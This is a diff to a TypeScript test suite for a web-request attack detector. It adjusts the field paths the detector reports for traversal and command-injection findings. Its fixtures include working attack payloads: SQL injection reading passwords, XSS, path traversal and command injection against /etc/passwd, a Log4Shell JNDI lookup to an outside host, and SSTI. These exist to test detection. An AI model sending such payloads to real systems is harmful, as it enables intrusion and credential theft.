@@ -25,7 +25,8 @@ describe("generic model", () => {
   const attacks: [string, HttpRequest, string, string][] = [
     ["sqli in a query value", get("/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"), "sqli", "query.id"],
     ["xss in a query value", get("/search?q=%3Csvg%20onload%3Dalert(document.domain)%3E"), "xss", "query.q"],
-    ["traversal in the path", get("/download/..%2f..%2f..%2f..%2fetc%2fpasswd"), "traversal", "path"],
+    // A segment sent with escapes is the value a route reads: the reason points at it.
+    ["traversal in the path", get("/download/..%2f..%2f..%2f..%2fetc%2fpasswd"), "traversal", "path.segment[2]"],
     ["command injection", get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), "cmdi", "query.host"],
     ["log4shell in a header", get("/", "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"), "log4shell", "header.user-agent"],
     ["ssti", get("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"), "ssti", "query.name"],
@@ -50,7 +51,7 @@ describe("generic model", () => {
     const [v] = await detector.judge([get("/tienda1/publico/%3Bnetstat%20-a%3B")]);
     expect(v!.isAnomaly).toBe(true);
     expect(v!.attackType).toBe("cmdi");
-    expect(v!.reasons[0]).toMatchObject({ field: "path", detector: "generic" });
+    expect(v!.reasons[0]).toMatchObject({ field: "path.segment[3]", detector: "generic" });
     expect(v!.reasons[0]!.evidence).toContain("netstat");
   });
 
